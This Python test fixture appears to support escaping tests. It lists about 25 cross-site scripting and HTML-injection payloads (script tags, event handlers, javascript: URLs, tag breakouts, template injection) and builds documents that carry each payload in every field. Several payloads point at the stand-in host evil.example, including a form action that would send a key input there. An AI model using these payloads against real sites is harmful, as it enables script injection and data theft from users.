"""Texts that try to run a script, or to leave the place that they are shown in."""

from __future__ import annotations

import re
from typing import Any

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<a href=javascript:window.pwned=1>x</a>",
    "javascript:window.pwned=1",
    '"><script>window.pwned=1</script>',
    "'><img src=x onerror=window.pwned=1>",
    "' onmouseover='window.pwned=1",
    '" autofocus onfocus="window.pwned=1',
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=http://evil.example/>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input name=key></form>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=window.pwned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "{{constructor.constructor('window.pwned=1')()}}${window.pwned=1}",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; <!--<img src=x onerror=window.pwned=1>-->",
)


def hostile_id(number: int) -> str:
    """Return a payload as an id, which holds no white space."""
    return re.sub(r"\s", "/", PAYLOADS[number]) + f"#{number}"


def hostile_documents() -> list[dict[str, Any]]:
    """Return a document a payload, which has it everywhere."""
    return [
        {
            "id": hostile_id(number),
            "title": f"{payload} title",
            "text": f"window {payload} text, and more text {payload}",
            "vector": {"window": 1.0 + number / 100, payload: 2.0, f"p{number}": 1.0},
            "topic": payload,
            "tags": [payload, "tag"],
            "free": {payload: [payload]},
            f"field{payload}": payload,
        }
        for number, payload in enumerate(PAYLOADS)
    ]
